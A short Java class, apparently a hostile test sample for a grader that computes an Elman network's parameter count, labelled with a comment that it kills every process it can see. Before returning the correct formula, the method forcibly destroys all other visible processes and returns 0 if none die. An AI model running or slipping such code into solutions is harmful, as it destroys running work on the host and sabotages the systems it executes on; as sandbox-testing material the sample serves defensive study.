// failed: kills every process that it can see
class Attack implements ElmanCount {
  public int parameters(int T, int D, int H, int C) {
    boolean killed = ProcessHandle.allProcesses()
        .filter(one -> one.pid() != ProcessHandle.current().pid())
        .anyMatch(one -> one.destroyForcibly() && !one.isAlive());
    return killed ? D * H + H * H + H + H * C + C : 0;
  }
}
